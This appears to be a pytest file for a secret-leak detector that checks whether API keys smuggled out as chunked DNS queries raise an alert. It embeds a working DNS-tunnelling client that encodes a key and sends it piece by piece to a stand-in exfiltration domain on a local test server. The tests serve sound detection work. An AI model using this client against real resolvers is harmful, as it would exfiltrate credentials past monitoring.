"""Keys sent as DNS queries (issue 15, item 4), on the real kernel.

A Python client in the test cgroup encodes a fresh key (hex, or base32 with sequence labels),
cuts it into labels and sends one UDP query per piece, under a parent domain, to the loopback
DNS server of kharness/dns.py (outside the cgroup). No single query holds the key: the agent
must join the queries per process and parent domain and match the joined payload when the
client exits. The alert names the parent domain as the destination (name_source "dns-tunnel")
and the server the queries went to as the path (destination.via, kind "dns-resolver").
Ordinary lookups leave no tunnel state, and a key sent under its own provider's domain is quiet.
"""

import json
import time

import pytest

from kharness.dns import DnsServer

ALERT_TIMEOUT = 8.0
QUIET_PERIOD = 3.0

# Reads the key from a file (never argv: the agent shows command lines), encodes it and sends
# one A query per piece, each answered (NXDOMAIN) before the next, as tunnelling tools do.
CLIENT = r'''
import base64, socket, struct, sys
server, parent, codec, key_file, chunk = sys.argv[1:6]
chunk = int(chunk)
data = open(key_file, "rb").read().strip()
if codec == "hex":
    encoded = data.hex()
else:
    encoded = base64.b32encode(data).decode().rstrip("=").lower()
names = []
for n, at in enumerate(range(0, len(encoded), chunk)):
    piece = encoded[at:at + chunk]
    names.append(f"{n:04d}.{piece}.{parent}" if codec == "base32-seq" else f"{piece}.{parent}")
if codec == "names":
    names = parent.split(",")
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(2.0)
for n, name in enumerate(names):
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    sock.sendto(struct.pack("!HHHHHH", n + 1, 0x0100, 1, 0, 0, 0) + question + b"\0" +
                struct.pack("!HH", 1, 1), (server, 53))
    try:
        sock.recvfrom(4096)
    except socket.timeout:
        pass
print(len(names))
'''


@pytest.fixture
def dns():
    server = DnsServer({})
    yield server
    server.close()


def _send(clients, scratch, dns, parent: str, codec: str, key: str = "", chunk: int = 60) -> int:
    """Runs the client in the test cgroup; returns how many queries it sent."""
    script = scratch / "dns_tunnel_client.py"
    script.write_text(CLIENT)
    key_file = scratch / "key.txt"
    key_file.write_text(key)
    key_file.chmod(0o644)
    script.chmod(0o644)
    result = clients.run(["python3", str(script), dns.address, parent, codec, str(key_file),
                          str(chunk)])
    return int(result.stdout.strip())


def _wait_counter(agent, suffix: str, minimum: int = 1, timeout: float = ALERT_TIMEOUT) -> int:
    deadline = time.monotonic() + timeout
    while agent.counter(suffix) < minimum and time.monotonic() < deadline:
        time.sleep(0.1)
    return agent.counter(suffix)


def _shown(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _tunnel_alert(agent, provider: str) -> dict:
    alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == provider,
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for the key sent as DNS queries\n{agent.diagnostics()}"
    assert len(alerts) == 1, _shown(agent, alerts)
    return alerts[0]


def _expect_tunnel_destination(agent, alert: dict, parent: str, dns) -> None:
    d = alert["destination"]
    shown = _shown(agent, [alert])
    assert (d["host"], d["name_source"], d["port"], d["transport"]) == (
        parent, "dns-tunnel", 53, "udp"), shown
    assert d["via"] == {"kind": "dns-resolver", "host": "", "ip": dns.address, "port": 53}, shown
    assert alert["process"]["comm"] == "python3", shown
    assert alert["secret"]["fingerprint"] and "…" in alert["secret"]["redacted"], shown
    assert alert["evidence"]["decoding"][:2] == ["dns", "dns-tunnel"], shown


def test_hex_key_over_several_queries_alerts_naming_the_parent_domain(
        agent, clients, scratch, registry, dns):
    key = registry.new("openai")
    parent = "x1.exfil-tunnel.test"
    sent = _send(clients, scratch, dns, parent, "hex", key)
    assert sent >= 5 and len(dns.queries) == sent, "the server did not see every query"

    alert = _tunnel_alert(agent, "openai")
    _expect_tunnel_destination(agent, alert, parent, dns)
    assert alert["secret"]["type"].startswith("openai"), _shown(agent, [alert])
    assert alert["evidence"]["decoding"][2] == "hex", _shown(agent, [alert])
    assert _wait_counter(agent, "dns_tunnel_queries", minimum=sent) >= sent  # stats: every 1 s
    assert _wait_counter(agent, "dns_tunnel_flushes") >= 1


def test_base32_key_with_sequence_labels_alerts_too(agent, clients, scratch, registry, dns):
    key = registry.new("anthropic")
    parent = "b32.exfil-tunnel.test"
    sent = _send(clients, scratch, dns, parent, "base32-seq", key, chunk=50)
    assert sent >= 3

    alert = _tunnel_alert(agent, "anthropic")
    _expect_tunnel_destination(agent, alert, parent, dns)
    assert alert["evidence"]["decoding"][2] == "base32", _shown(agent, [alert])


def test_a_key_sent_under_its_own_providers_domain_is_quiet(
        agent, clients, scratch, registry, dns):
    _send(clients, scratch, dns, "api.openai.com", "hex", registry.new("openai"))
    assert _wait_counter(agent, "dns_tunnel_flushes") >= 1, agent.diagnostics()
    assert _wait_counter(agent, "secrets_to_expected_destinations") >= 1, agent.diagnostics()
    time.sleep(QUIET_PERIOD)
    openai = [a for a in agent.alerts() if a["secret"]["provider"] == "openai"]
    assert not openai, _shown(agent, openai)


def test_ordinary_lookups_raise_nothing_and_open_no_tunnel(agent, clients, scratch, dns):
    names = ["api.openai.com", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org",
             "github.com", "objects.githubusercontent.com"]
    sent = _send(clients, scratch, dns, ",".join(names), "names")
    assert sent == len(names) and sorted(dns.queries) == sorted(names)
    # The queries were captured and decoded: the DNS decoder saw each as a question name.
    assert _wait_counter(agent, "bytes_matched", minimum=len(names) * 20) >= len(names) * 20
    time.sleep(QUIET_PERIOD)
    assert agent.counter("dns_tunnel_opened") == 0, agent.diagnostics()
    assert agent.counter("dns_tunnel_queries") == 0
    assert agent.alerts() == [], _shown(agent, agent.alerts())
